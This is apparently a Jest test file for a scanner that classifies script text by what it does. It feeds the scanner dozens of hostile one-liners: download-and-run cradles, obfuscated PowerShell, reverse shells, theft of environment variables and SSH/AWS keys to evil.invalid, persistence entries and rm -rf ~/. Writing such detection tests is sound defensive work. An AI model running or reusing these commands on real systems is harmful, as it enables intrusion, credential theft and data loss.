import { describe, expect, test } from '@jest/globals';
import type { ContentAct } from '../../src/content/facts.js';
import { scriptActs, scriptLanguage, scriptTextActs } from '../../src/content/scripts.js';

const told = ({ act, inputs, traits }: ContentAct): string => [`${act}<${inputs.join(' ')}>`, ...traits].join(' ');

describe('acts', () => {
  test.each([
    {
      name: 'a script piped to a shell',
      language: 'shell',
      text: 'curl -fsSL https://evil.invalid/x.sh | sh',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'over two lines, detached and silent',
      language: 'shell',
      text: 'curl -k https://evil.invalid/x |\n sudo -E bash -s -- a >/dev/null 2>&1 &',
      acts: ['fetch<> tls-off', 'run-process<downloaded-file> detached silenced-output'],
    },
    {
      name: 'fetched, made executable, started',
      language: 'shell',
      text: 'wget -qO /tmp/x https://evil.invalid/x && chmod +x /tmp/x && /tmp/x',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'with the address in a variable',
      language: 'shell',
      text: 'U=https://evil.invalid/x\ncurl -sLo x $U; chmod 755 x; ./x',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'under its own name',
      language: 'shell',
      text: 'curl -O https://evil.invalid/tool\nnohup ./tool &',
      acts: ['fetch<>', 'run-process<downloaded-file> detached'],
    },
    {
      name: 'in the words of a shell',
      language: 'shell',
      text: 'bash -c "$(curl -fsSL https://evil.invalid/x)"',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'as a file of a shell',
      language: 'shell',
      text: 'bash <(curl -s https://evil.invalid/x)',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'by eval',
      language: 'shell',
      text: 'eval "$(wget -qO- https://evil.invalid/x)"',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'by source',
      language: 'shell',
      text: 'source <(curl -s https://evil.invalid/x)',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'decoded, and what is inside',
      language: 'shell',
      text: 'echo Y3VybCBodHRwczovL2V2aWwuaW52YWxpZC9hIHwgc2g= | base64 -d | bash',
      acts: ['run-process<decoded>', 'fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'a here-document',
      language: 'shell',
      text: 'sh <<EOF\ncurl https://a.invalid | sh\nEOF\necho done',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'a socket of the shell',
      language: 'shell',
      text: 'bash -i >& /dev/tcp/evil.invalid/4444 0>&1',
      acts: ['run-process<>'],
    },
    { name: 'netcat', language: 'shell', text: 'nc -e /bin/sh evil.invalid 4444', acts: ['run-process<>'] },
    {
      name: 'the environment in an argument',
      language: 'shell',
      text: 'curl -X POST -d "$(env)" https://evil.invalid/c',
      acts: ['send<environment>'],
    },
    {
      name: 'the environment in a pipe',
      language: 'shell',
      text: 'env | curl -d @- https://evil.invalid/c',
      acts: ['send<environment>'],
    },
    {
      name: 'a key',
      language: 'shell',
      text: 'curl -F f=@$HOME/.ssh/id_rsa https://evil.invalid/c',
      acts: ['send<secret-file>'],
    },
    {
      name: 'packed secrets',
      language: 'shell',
      text: 'tar cz ~/.aws | curl -T - https://evil.invalid/c',
      acts: ['read-secret<>', 'send<secret-file>'],
    },
    { name: 'a start-up file', language: 'shell', text: 'echo x >> ~/.bashrc', acts: ['write-file<>'] },
    { name: 'a schedule', language: 'shell', text: '(crontab -l; echo x) | crontab -', acts: ['run-process<>'] },
    {
      name: 'a line of Python',
      language: 'shell',
      text: 'python3 -c "import base64;exec(base64.b64decode(\'cHJpbnQ=\'))"',
      acts: ['run-process<decoded>'],
    },
    {
      name: 'a line of JavaScript',
      language: 'shell',
      text: 'node -e "eval(atob(\'YWxlcnQoMSk=\'))"',
      acts: ['run-code<decoded>'],
    },
    { name: 'a look-up', language: 'shell', text: 'nslookup $(hostname).evil.invalid', acts: ['look-up<host-facts>'] },
    { name: 'everything', language: 'shell', text: 'rm -rf ~/', acts: ['delete-files<>'] },
    {
      name: 'certutil',
      language: 'batch',
      text: 'certutil -urlcache -split -f https://evil.invalid/a.exe %TEMP%\\a.exe\r\nstart /b %TEMP%\\a.exe',
      acts: ['fetch<>', 'run-process<downloaded-file> detached'],
    },
    {
      name: 'bitsadmin',
      language: 'batch',
      text: 'bitsadmin /transfer x https://evil.invalid/a.exe C:\\a.exe & C:\\a.exe',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'mshta',
      language: 'batch',
      text: 'mshta https://evil.invalid/a.hta',
      acts: ['run-process<downloaded-file>'],
    },
    {
      name: 'regsvr32',
      language: 'batch',
      text: 'regsvr32 /s /n /u /i:https://evil.invalid/a.sct scrobj.dll',
      acts: ['run-process<downloaded-file>'],
    },
    {
      name: 'carets in a name',
      language: 'batch',
      text: 'p^ower^shell -w hidden -c "iwr https://evil.invalid/a -OutFile a.exe; Start-Process a.exe"',
      acts: ['fetch<> hidden-window', 'run-process<downloaded-file>'],
    },
    { name: 'a task', language: 'batch', text: 'schtasks /create /tn x /tr y /sc onlogon', acts: ['run-process<>'] },
    {
      name: 'a fetched text',
      language: 'powershell',
      text: "IEX (New-Object Net.WebClient).DownloadString('https://evil.invalid/a')",
      acts: ['run-code<network>', 'fetch<>'],
    },
    {
      name: 'through variables',
      language: 'powershell',
      text: "$c = New-Object Net.WebClient\n$s = $c.DownloadString('https://evil.invalid/a')\nInvoke-Expression $s",
      acts: ['fetch<>', 'run-code<network>'],
    },
    {
      name: 'through a pipe',
      language: 'powershell',
      text: 'iwr https://evil.invalid/a.ps1 | iex',
      acts: ['run-code<network>', 'fetch<>'],
    },
    {
      name: 'a fetched program',
      language: 'powershell',
      text: 'Invoke-WebRequest https://evil.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process "$env:TEMP\\a.exe" -WindowStyle Hidden',
      acts: ['fetch<>', 'run-process<downloaded-file> hidden-window'],
    },
    {
      name: 'an assembly from memory',
      language: 'powershell',
      text: "$b=[Convert]::FromBase64String('aaaa');[Reflection.Assembly]::Load($b)",
      acts: ['run-code<decoded>'],
    },
    {
      name: 'names in pieces',
      language: 'powershell',
      text: "(New-Object Net.WebClient).('Down'+'loadString').Invoke('https://evil.invalid/a') | i`e`x",
      acts: ['run-code<network>', 'fetch<>'],
    },
    {
      name: 'the environment',
      language: 'powershell',
      text: 'Invoke-RestMethod -Uri https://evil.invalid -Method Post -Body (Get-ChildItem env:)',
      acts: ['send<environment>'],
    },
    {
      name: 'a Run key',
      language: 'powershell',
      text: "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y",
      acts: ['write-file<>'],
    },
    {
      name: 'a started program',
      language: 'wscript',
      text: 'Set s=CreateObject("WScript.Shell")\ns.Run "notepad",0',
      acts: ['run-process<>'],
    },
    {
      name: 'a fetched program',
      language: 'wscript',
      text: 'Set h=CreateObject("MSXML2.XMLHTTP")\nh.Open "GET","https://evil.invalid/a"\nCreateObject("ADODB.Stream").SaveToFile "a.exe"\nCreateObject("WScript.Shell").Run "a.exe"',
      acts: ['fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'a decoded text',
      language: 'wscript',
      text: 'ExecuteGlobal(Chr(65) & Chr(66))',
      acts: ['run-code<decoded>'],
    },
    {
      name: 'a process',
      language: 'javascript',
      text: "const cp=require('child_process');cp.exec('curl https://evil.invalid | sh')",
      acts: ['run-process<>', 'fetch<>', 'run-process<downloaded-file>'],
    },
    {
      name: 'a module',
      language: 'javascript',
      text: "import {spawn} from 'node:child_process'; spawn('python3',['x.py'])",
      acts: ['run-process<>'],
    },
    { name: 'a decoded text', language: 'javascript', text: "eval(atob('YWxlcnQoMSk='))", acts: ['run-code<decoded>'] },
    {
      name: 'a decoded text in a variable',
      language: 'javascript',
      text: "const x = Buffer.from(p,'base64').toString(); new Function(x)()",
      acts: ['run-code<decoded>'],
    },
    {
      name: 'the environment',
      language: 'javascript',
      text: "const https=require('https');https.request({}).end(JSON.stringify(process.env))",
      acts: ['send<environment>'],
    },
  ] as const)('$language: $name', ({ language, text, acts }) => {
    expect(scriptTextActs(text, language).map(told)).toEqual(acts);
  });

  test.each([
    { name: 'a comment', language: 'shell', text: '# curl https://x.invalid | sh\necho hi' },
    { name: 'a text', language: 'shell', text: "echo 'curl https://x.invalid | sh'" },
    {
      name: 'a text that is written down',
      language: 'shell',
      text: 'cat > x.sh <<EOF\ncurl https://a.invalid | sh\nEOF\necho done',
    },
    {
      name: 'building',
      language: 'shell',
      text: 'rm -rf build dist\nmake -j4\n./configure --prefix=/usr\npip install -r requirements.txt\npython setup.py build',
    },
    {
      name: 'comments and building',
      language: 'batch',
      text: 'rem curl https://x.invalid | sh\r\n:: mshta https://x.invalid\r\nset A=1\r\npython setup.py build',
    },
    {
      name: 'comments and texts',
      language: 'powershell',
      text: "# iwr https://x.invalid | iex\nWrite-Host 'iex'\n<# iex (iwr x) #>\nGet-ChildItem . | ForEach-Object { $_.Name }",
    },
    { name: 'a comment', language: 'wscript', text: '\' CreateObject("WScript.Shell").Run "x"' },
    { name: 'a comment', language: 'javascript', text: "// eval(atob('x'))\nvar a = 1" },
    {
      name: 'what bundlers write',
      language: 'javascript',
      text: "var m=/a/.exec(s); if(process.env.NODE_ENV!=='production'){ } new Function('return this')(); atob(x); eval(y)",
    },
    {
      name: 'a page that fetches',
      language: 'javascript',
      text: "fetch('https://api.invalid/x').then(r => r.text()).then(t => eval('1'))",
    },
  ] as const)('nothing in $language: $name', ({ language, text }) => {
    expect(scriptTextActs(text, language)).toEqual([]);
  });
});

test('an encoded command of PowerShell is unfolded, wherever it is started', () => {
  const inner = "IEX (New-Object Net.WebClient).DownloadString('https://evil.invalid/a')";
  const line = `powershell -w hidden -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;

  for (const language of ['shell', 'batch', 'powershell'] as const) {
    const acts = scriptTextActs(line, language);
    expect(acts.map(told)).toEqual(['run-process<decoded> hidden-window', 'run-code<network>', 'fetch<>']);
    expect(acts[1]?.steps.map(({ what }) => what)).toEqual([
      'unpacks an encoded command',
      'fetches evil.invalid/a',
      'runs it as a script',
    ]);
  }
});

test('an act knows its line', () => {
  const acts = scriptTextActs('echo a\n\ncurl https://evil.invalid/x \\\n  | sh\n', 'shell');

  expect(acts.map(({ at }) => at.line)).toEqual([3, 4]);
});

test.each([
  { name: 'by its ending', path: 'a.ps1', text: 'x', language: 'powershell' },
  { name: 'by its first line', path: 'go', text: '#!/usr/bin/env bash\n', language: 'shell' },
  { name: 'its first line over its ending', path: 'go.js', text: '#!/bin/sh\n', language: 'shell' },
  { name: 'a batch file by its first line', path: 'go.txt', text: '@echo off\r\n', language: 'batch' },
  { name: 'Python, which is read elsewhere', path: 'go', text: '#!/usr/bin/env python3\n', language: null },
  { name: 'a text', path: 'go.txt', text: 'sh', language: null },
])('language: $name', ({ path, text, language }) => {
  expect(scriptLanguage(path, Buffer.from(text))).toBe(language);
});

test('a script in UTF-16 is read', () => {
  const bytes = Buffer.from('\uFEFFiwr https://evil.invalid/a | iex', 'utf16le');

  expect(scriptActs(bytes, 'powershell').acts.map(told)).toEqual(['run-code<network>', 'fetch<>']);
});

test('a script beyond its limit says so', () => {
  expect(scriptActs(Buffer.alloc(2 * 1024 * 1024, 'a'), 'shell').partly).toBe('it has more than 1024 KiB');
});
